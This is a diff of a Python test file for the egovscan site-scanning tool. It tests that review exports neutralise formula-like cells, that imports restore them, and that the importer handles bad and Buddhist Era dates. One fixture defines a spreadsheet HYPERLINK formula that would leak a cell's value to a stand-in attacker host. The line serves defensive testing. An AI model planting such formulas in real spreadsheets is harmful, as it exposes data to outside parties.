@@ -300,7 +300,7 @@ def test_review_server_is_not_frozen_by_a_silent_client_or_a_bad_length(two_nigh
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
 
 
-def test_review_export_writes_formulas_inert(two_nights):
+def test_review_export_writes_formulas_inert_and_import_restores_them(two_nights, tmp_path):
     db_path, _ = two_nights
     egovscan("score", "--db", db_path, "--quiet")
     egovscan("review", "set", "s1", "media.audio_video", "--state", "present", "--by", "@SUM(1+1)",
@@ -313,6 +313,13 @@ def test_review_export_writes_formulas_inert(two_nights):
     assert rows[1]["note"] == "'-2+3 pages list news"
     assert not [cell for row in csv.reader(io.StringIO(exported)) for cell in row
                 if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # the exported sheet loads back as it was written: the guard quote is taken off again
+    sheet = tmp_path / "reviews.csv"
+    sheet.write_text(exported, "utf-8")
+    assert egovscan("review", "import", sheet, "--db", db_path).returncode == 0
+    db = sqlite_utils.Database(db_path)
+    imported = db.execute("select reviewer, note from reviews order by id desc limit 2").fetchall()
+    assert sorted(imported) == sorted([("@SUM(1+1)", FORMULA), ("malee", "-2+3 pages list news")])
 
 
 def test_xlsx_export_shows_formula_like_text_as_it_is_and_never_as_a_formula(tmp_path, serve):
@@ -345,3 +352,28 @@ def test_xlsx_export_shows_formula_like_text_as_it_is_and_never_as_a_formula(tmp
     rows = list(csv.reader(io.StringIO(egovscan("export", "--db", db, "--format", "csv").stdout)))
     assert rows[1][rows[0].index("name")] == "'" + FORMULA and rows[1][rows[0].index("ministry")] == "'- A"
 
+
+def test_review_import_refuses_unreadable_dates_and_takes_unknown_as_no_decision(two_nights, tmp_path):
+    db_path, _ = two_nights
+    sheet = tmp_path / "labels.csv"
+    sheet.write_text("site_id,feature,label,evidence_path,note,reviewer,date\n"
+                     "s4,participate.poll,present,,poll page,malee,next tuesday\n"
+                     "s4,info.news,unknown,,could not judge from the saved pages,malee,\n"
+                     "s3,payment.online,present,,pays at the portal,malee,20/11/2569\n"
+                     "s2,info.news,present,,,malee,๒๑ พ.ย. ๒๕๖๙\n"
+                     "s1,info.news,present,,,malee,2026-02-30\n", "utf-8")
+    proc = egovscan("review", "import", sheet, "--db", db_path, check=False)
+    assert proc.returncode == 2
+    assert "labels.csv, line 2: cannot read the date 'next tuesday'" in proc.stderr
+    assert "labels.csv, line 6: cannot read the date '2026-02-30'" in proc.stderr
+    assert "2 review(s) loaded, 2 row(s) skipped, 1 row(s) labelled unknown: no decision" in proc.stderr
+    db = sqlite_utils.Database(db_path)
+    assert db.execute("select site_id, feature, reviewed_at from reviews order by site_id").fetchall() == [
+        ("s2", "info.news", "2026-11-21"), ("s3", "payment.online", "2026-11-20")]     # Buddhist Era read
+    # a labels file whose only other rows are good: unknown rows are no reason to fail
+    sheet.write_text("site_id,feature,label,evidence_path,note\n"
+                     "s4,info.news,unknown,,\n"
+                     "s4,participate.poll,present,,poll page\n", "utf-8")
+    proc = egovscan("review", "import", sheet, "--by", "malee", "--db", db_path, check=False)
+    assert proc.returncode == 0, proc.stderr
+    assert "1 review(s) loaded, 0 row(s) skipped, 1 row(s) labelled unknown" in proc.stderr
